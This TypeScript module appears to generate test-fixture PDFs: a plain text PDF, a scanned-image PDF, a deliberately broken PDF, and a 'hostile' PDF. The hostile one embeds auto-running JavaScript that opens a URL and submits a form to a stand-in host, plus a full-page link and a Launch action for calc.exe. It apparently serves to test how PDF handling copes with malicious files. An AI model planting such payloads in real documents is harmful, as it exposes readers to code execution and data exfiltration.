import { createRequire } from 'node:module';
import pdfMake from 'pdfmake';
import type { TDocumentDefinitions } from 'pdfmake/interfaces.d.ts';

const require = createRequire(import.meta.url);
const face = '@fontsource/instrument-sans/files/instrument-sans-latin-400-normal.woff';
pdfMake.setFonts({ Text: { normal: require.resolve(face) } });
pdfMake.setUrlAccessPolicy(() => false);
pdfMake.setLocalAccessPolicy((path) => path.endsWith('.woff'));

export function textPdf(pages: readonly string[], more: Partial<TDocumentDefinitions> = {}): Promise<Buffer> {
  const content = pages.map((text, index) => ({
    text,
    fontSize: 40,
    ...(index > 0 && { pageBreak: 'before' as const }),
  }));
  return pdfMake.createPdf({ content, defaultStyle: { font: 'Text' }, ...more }).getBuffer();
}

export const elsewhere = 'https://elsewhere.example';

/** Runs scripts when it is opened and when its page is, submits a form, and is one link all over. */
export function hostilePdf(): Buffer {
  const script = `app.alert('met'); app.launchURL('${elsewhere}/script'); this.submitForm('${elsewhere}/form');`;
  const act = `<< /Type /Action /S /JavaScript /JS (${script.replace(/[()]/g, '\\$&')}) >>`;
  const words = 'BT /F1 40 Tf 60 400 Td (Press here) Tj ET';
  return assemble([
    `<< /Type /Catalog /Pages 2 0 R /OpenAction ${act} /AA << /WC ${act} >> /Names << /JavaScript << /Names [(a) ${act}] >> >> >>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 600 800] /Contents 4 0 R /Annots [6 0 R 7 0 R] /AA << /O ${act} >> /Resources << /Font << /F1 5 0 R >> >> >>`,
    `<< /Length ${words.length} >>\nstream\n${words}\nendstream`,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
    `<< /Type /Annot /Subtype /Link /Rect [0 0 600 800] /A << /S /URI /URI (${elsewhere}/link) >> >>`,
    '<< /Type /Annot /Subtype /Link /Rect [0 0 600 800] /A << /S /Launch /F (calc.exe) >> >>',
  ]);
}

/** A scan as faxes send it, all black, and a sign of a font that no computer has to have. */
export function scannedPdf(): Buffer {
  const words = 'q 300 0 0 300 60 400 cm /Scan Do Q BT /F1 80 Tf 60 200 Td (4) Tj ET';
  const scan =
    '/Type /XObject /Subtype /Image /Width 64 /Height 64 /BitsPerComponent 1 /ColorSpace /DeviceGray /Decode [1 0]';
  return assemble([
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 600 800] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> /XObject << /Scan 6 0 R >> >> >>',
    `<< /Length ${words.length} >>\nstream\n${words}\nendstream`,
    '<< /Type /Font /Subtype /Type1 /BaseFont /ZapfDingbats >>',
    // In this encoding a set bit is a line like the one above, which is white before the first.
    `<< ${scan} /Filter /CCITTFaxDecode /DecodeParms << /K -1 /Columns 64 /Rows 64 >> /Length 8 >>\nstream\n${'\xff'.repeat(8)}\nendstream`,
  ]);
}

/** Begins and ends as a PDF, so that it is taken, and holds nothing between. */
export function brokenPdf(): Buffer {
  return Buffer.from(`%PDF-1.7\n${'not an object '.repeat(40)}\n%%EOF\n`);
}

function assemble(objects: readonly string[]): Buffer {
  let text = '%PDF-1.7\n';
  const places = objects.map((object, index) => {
    const place = text.length;
    text += `${index + 1} 0 obj\n${object}\nendobj\n`;
    return `${String(place).padStart(10, '0')} 00000 n \n`;
  });
  const start = text.length;
  text += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${places.join('')}`;
  text += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${start}\n%%EOF\n`;
  return Buffer.from(text, 'latin1');
}
